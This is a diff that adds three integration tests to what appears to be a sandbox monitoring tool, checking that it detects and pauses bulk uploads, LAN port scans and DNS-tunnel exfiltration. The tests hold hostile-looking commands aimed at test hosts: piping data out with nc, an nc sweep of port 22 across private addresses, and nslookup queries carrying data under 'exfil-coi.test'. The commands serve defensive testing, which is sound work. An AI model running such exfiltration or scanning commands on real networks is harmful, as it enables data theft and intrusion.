@@ -241,3 +241,76 @@ def test_a_command_that_reads_300_mb_in_a_second_and_exits_is_raised(
     assert reads, (_events(env), err)
     assert reads[0]["level"] == "high"
     assert reads[0]["evidence"]["filesystem"]["read_mb"] >= 100
+
+
+def test_a_stream_to_an_outside_host_is_cut_at_the_cap_and_the_sandbox_paused(
+    client: IncusClient, env: dict[str, str], ws: Path, net: Net
+) -> None:
+    """40 MB streamed to "the internet" (allowed by the restricted policy): the kernel's
+    quota drops what would pass 10 MB to that address, and the monitor pauses the sandbox.
+    The receiver counts what arrived."""
+    proc = _run_watched(client, env, ws, f"head -c 40000000 /dev/zero | nc {net.addr} {SINK_PORT}")
+    try:
+        wait_for(
+            lambda: any(e["title"] == "Upload limit reached" for e in _events(env)),
+            "the upload to be stopped",
+            90,
+        )
+        wait_for(lambda: _frozen(client), "the sandbox to be paused", 10)
+        (event,) = [e for e in _events(env) if e["title"] == "Upload limit reached"]
+        assert (event["level"], event["action"]) == ("high", "paused")
+        assert event["evidence"]["network"]["remote"] == net.addr
+        time.sleep(1)  # anything still in flight lands (nothing more can be sent)
+        got = net.received()
+        assert 1_000_000 < got < 10_000_000, got
+    finally:
+        _end(client, proc)
+
+
+def test_a_scan_of_the_lan_is_counted_where_the_policy_refuses_it(
+    client: IncusClient, env: dict[str, str], tmp_path: Path, ws: Path, net: Net
+) -> None:
+    """Fourteen addresses of a private range, one quick refused connect each (never alive at
+    a sweep): each refusal is seen where the policy refuses it; the first raises, fourteen
+    distinct targets are a scan. Not paused here, so the whole scan runs."""
+    cfg = Path(env["COI_CONFIG"])
+    cfg.write_text("[monitoring]\nauto_pause_on_high = false\n")
+    targets = " ".join(str(net.lan[i]) for i in range(1, 15))
+    res = subprocess.run(
+        coi_argv(
+            "run", "--monitor", "--image", "coi-tiny", "-w", str(ws), "--", "sh", "-c",
+            f"for a in {targets}; do nc -w 1 $a 22 </dev/null; done; echo scanned",
+        ),
+        env=env, capture_output=True, text=True, timeout=180,
+    )  # fmt: skip
+    assert "scanned" in res.stdout, res.stderr
+    titles = [(e["title"], e["level"]) for e in _events(env)]
+    assert ("Private network access", "high") in titles, titles
+    assert ("Network scan", "high") in titles, titles
+    (scan,) = [e for e in _events(env) if e["title"] == "Network scan"]
+    assert scan["evidence"]["scan"]["targets"] >= 10
+    assert all(ipaddress.ip_address(h) in net.lan for h in scan["evidence"]["scan"]["hosts"])
+
+
+def test_data_in_dns_names_is_a_tunnel_whatever_the_label_length(
+    client: IncusClient, env: dict[str, str], ws: Path, net: Net
+) -> None:
+    """Hex chunks of 30 characters (under the 40-character label rule) under one domain,
+    asked of the test's DNS server: seen at the sandbox's veth, judged by volume and
+    entropy."""
+    chunks = [secrets.token_hex(15) for _ in range(24)]
+    lookups = "; ".join(f"nslookup {c}.x.exfil-coi.test {net.addr} >/dev/null 2>&1" for c in chunks)
+    proc = _run_watched(client, env, ws, f"{lookups}; sleep 30")
+    try:
+        wait_for(
+            lambda: any(e["title"] == "DNS tunnel" for e in _events(env)),
+            "the tunnel to be seen",
+            90,
+        )
+        (event,) = [e for e in _events(env) if e["title"] == "DNS tunnel"]
+        assert (event["level"], event["action"]) == ("high", "paused")
+        assert event["evidence"]["dns"]["domain"] == "exfil-coi.test"
+        asked = net.dns_log.read_text().split() if net.dns_log.exists() else []
+        assert any(c in name for name in asked for c in chunks)  # the queries did leave
+    finally:
+        _end(client, proc)
